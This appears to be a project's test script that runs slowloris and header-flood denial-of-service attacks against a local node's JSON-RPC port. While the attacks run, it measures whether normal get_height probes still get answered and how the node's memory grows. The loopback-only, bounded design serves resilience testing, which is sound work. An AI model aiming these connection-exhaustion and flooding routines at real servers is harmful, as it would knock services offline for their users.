#!/usr/bin/env python3
"""Tries the attacks of issue 11 against a running node's RPC and reports what a normal client
saw meanwhile and the node's memory. Loopback only; every loop is bounded in count and time.

  scripts/rpc_attack.py slowloris   --port P --pid PID [--conns 200] [--seconds 30]
      N connections send a request line, then one header byte every 3 s.
  scripts/rpc_attack.py headerflood --port P --pid PID [--conns 4] [--mb 150]
      N connections each send up to MB of header lines.
Meanwhile a probe calls get_height every 0.5 s on a fresh connection (from --probe-source; from
the attacker's own address it meets the per-address connection cap) and the node's RSS
(/proc/PID/status VmRSS) is sampled; both are summarised at the end.
"""
import argparse, json, socket, threading, time

def rss_mb(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return 0.0

def probe(port, source, timeout=5.0):
    body = b'{"jsonrpc":"2.0","id":1,"method":"get_height"}'
    t0 = time.monotonic()
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=timeout, source_address=(source, 0))
        s.sendall(b"POST /json_rpc HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))
        data = b""
        while b"\r\n\r\n" not in data or b'"result"' not in data and b'"error"' not in data:
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
        s.close()
        ok = data.startswith(b"HTTP/1.1 200") and b'"height"' in data
        return ok, time.monotonic() - t0
    except OSError:
        return False, time.monotonic() - t0

def slowloris(port, conns, seconds, stop):
    socks = []
    for _ in range(conns):
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=2)
            s.sendall(b"POST /json_rpc HTTP/1.1\r\n")
            socks.append(s)
        except OSError:
            pass
    cut = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end and not stop.is_set():
        time.sleep(3)
        for s in list(socks):
            try:
                s.sendall(b"X")
            except OSError:
                socks.remove(s)
                cut += 1
    for s in socks:
        s.close()
    return f"{conns} opened, {cut} cut by the server, {len(socks)} still open at the end"

def headerflood(port, conns, mb, stop):
    results = []
    def one():
        sent = 0
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=5)
            s.sendall(b"POST /json_rpc HTTP/1.1\r\nHost: 127.0.0.1\r\n")
            line = b"X-Flood: " + b"a" * 100 + b"\r\n"
            block = line * 1000
            while sent < mb * 1024 * 1024 and not stop.is_set():
                s.sendall(block)
                sent += len(block)
            status = s.recv(200).split(b"\r\n")[0].decode(errors="replace")
            results.append(f"sent {sent / 1e6:.1f} MB, answered {status}")
        except OSError as e:
            results.append(f"cut after {sent / 1e6:.2f} MB ({e.strerror or e})")
    threads = [threading.Thread(target=one) for _ in range(conns)]
    for t in threads: t.start()
    for t in threads: t.join(timeout=120)
    return "; ".join(results)

def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("mode", choices=["slowloris", "headerflood"])
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--pid", type=int, required=True)
    ap.add_argument("--conns", type=int)
    ap.add_argument("--seconds", type=int, default=30)
    ap.add_argument("--mb", type=int, default=150)
    ap.add_argument("--probe-source", default="127.0.0.1",
                    help="the probe's source address (127.0.0.2: another client than the attacker)")
    a = ap.parse_args()
    stop = threading.Event()
    rss0 = rss_mb(a.pid)
    out = {}
    def attack():
        if a.mode == "slowloris":
            out["attack"] = slowloris(a.port, a.conns or 200, a.seconds, stop)
        else:
            out["attack"] = headerflood(a.port, a.conns or 4, a.mb, stop)
    t = threading.Thread(target=attack)
    t.start()
    probes, peak = [], rss0
    deadline = time.monotonic() + max(a.seconds, 10) + 150
    while t.is_alive() and time.monotonic() < deadline:
        probes.append(probe(a.port, a.probe_source))
        peak = max(peak, rss_mb(a.pid))
        time.sleep(0.5)
    stop.set()
    t.join()
    time.sleep(1)
    ok = [d for good, d in probes if good]
    print(f"{a.mode}: {out.get('attack')}")
    print(f"probes: {len(ok)}/{len(probes)} answered; slowest {max(ok) if ok else 0:.3f} s")
    print(f"node RSS: {rss0:.0f} MB before, peak {peak:.0f} MB, {rss_mb(a.pid):.0f} MB after")

if __name__ == "__main__":
    main()
